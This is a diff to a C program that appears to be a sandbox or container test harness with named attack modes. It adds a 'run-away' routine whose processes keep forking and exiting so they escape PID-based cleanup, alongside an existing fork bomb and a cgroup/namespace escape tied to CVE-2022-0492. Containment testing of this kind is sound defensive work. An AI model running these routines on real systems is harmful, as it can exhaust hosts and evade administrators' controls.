@@ -111,6 +111,21 @@ static int fork_bomb(void) {
   return 0;
 }
 
+/* Processes that are never where a list of them says: each is replaced by its child at once. */
+static int run_away(void) {
+  for (int runner = 0; runner < 8; runner++) {
+    if (fork() != 0) continue;
+    for (;;) {
+      pid_t next = fork();
+      if (next > 0) _exit(0);
+      if (next < 0) (void)usleep(1000);
+    }
+  }
+  printf("running\n");
+  (void)fflush(stdout);
+  for (;;) (void)pause();
+}
+
 /* Namespaces of its own in which it would be root over mounts (CVE-2022-0492), then its own control groups writable. */
 static int mount_groups(const char *type, const char *options, const char *file, const char *value) {
   char path[PATH_MAX];
@@ -139,6 +154,7 @@ int main(int count, char **arguments) {
   if (strcmp(attack, "hold-joined") == 0) return hold_joined();
   if (strcmp(attack, "swap") == 0 && count == 4) return swap(arguments[2], arguments[3]);
   if (strcmp(attack, "fork-bomb") == 0) return fork_bomb();
+  if (strcmp(attack, "run-away") == 0) return run_away();
   if (strcmp(attack, "show-descriptors") == 0) return show_descriptors();
   if (strcmp(attack, "mount-groups") == 0 && count == 6)
     return mount_groups(arguments[2], arguments[3], arguments[4], arguments[5]);
